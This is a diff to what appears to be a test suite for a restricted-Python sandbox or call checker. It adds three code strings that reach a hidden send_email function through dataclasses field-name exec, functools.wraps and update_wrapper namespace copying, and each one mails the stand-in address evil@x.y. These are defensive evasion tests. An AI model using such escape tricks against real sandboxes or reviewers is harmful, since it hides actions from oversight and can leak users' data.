@@ -76,6 +76,27 @@ HIDDEN_CALLS = {
         "match init:\n    case H(g):\n        pass\n"
         "g['__builtins__']['ev' + 'al'](\"send_email(to='evil@x.y')\")"
     ),
+    # Data a plain module's function turns into names: dataclasses execs its field names in
+    # __main__; functools.wraps copies a module's namespace (os's holds sys) and update_wrapper
+    # the attributes its `updated` names (a function's __globals__).
+    "dataclasses_field_names": (
+        "import dataclasses\nG = [1]\n"
+        "N = \"a or (G and G.pop() and send_email(to='evil@x.y'))\"\n"
+        "X = dataclasses.dataclass(init=False, repr=False)("
+        "type('X', (), {'__annotations__': {N: int}, '__doc__': 'x', 'a': 0}))\n"
+        "X() == X()"
+    ),
+    "functools_wraps_module": (
+        "import functools, os\ndef grab(obj):\n    d = {}\n    class W:\n"
+        "        def __getattribute__(self, name):\n            return d\n"
+        "    functools.wraps(obj)(W())\n    return d\n"
+        "grab(grab(grab(os)['sys'])['modules']['__main__'])['send_email'](to='evil@x.y')"
+    ),
+    "update_wrapper_globals": (
+        "import functools\nD = {}\nclass W:\n    __globals__ = D\ndef f(): pass\n"
+        "functools.update_wrapper(W(), f, assigned=(), updated=('__globals__',))\n"
+        "D['send_email'](to='evil@x.y')"
+    ),
     "string_annotation": (
         "import typing\ndef f(x: \"send_email(to='evil@x.y')\"): pass\ntyping.get_type_hints(f)"
     ),
